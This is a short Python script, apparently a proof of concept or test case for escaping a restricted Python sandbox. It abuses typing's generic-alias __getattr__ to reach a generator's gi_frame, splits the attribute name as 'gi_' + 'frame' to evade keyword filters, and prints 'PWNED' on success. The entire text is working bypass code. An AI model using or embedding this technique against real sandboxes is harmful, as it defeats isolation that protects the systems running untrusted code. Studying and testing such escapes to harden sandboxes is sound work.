# needs: typing

import typing


class Alias(type(typing.List[int]), _root=True):
    pass


class Fake:
    pass


def generator():
    yield


fake = Fake()
fake.__origin__ = generator()
frame = Alias.__getattr__(fake, "gi_" + "frame")
print("PWNED", frame)
